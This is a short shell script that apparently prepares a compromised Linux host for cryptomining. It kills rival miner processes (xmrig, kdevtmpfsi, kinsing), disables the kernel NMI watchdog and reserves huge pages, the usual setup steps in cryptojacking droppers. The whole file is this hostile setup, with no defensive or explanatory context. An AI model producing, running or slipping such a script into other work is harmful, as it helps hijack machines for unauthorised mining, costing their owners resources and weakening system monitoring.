#!/bin/sh
pkill -f xmrig; pkill -f kdevtmpfsi; pkill -f kinsing
echo 0 > /proc/sys/kernel/nmi_watchdog
sysctl -w vm.nr_hugepages=1280
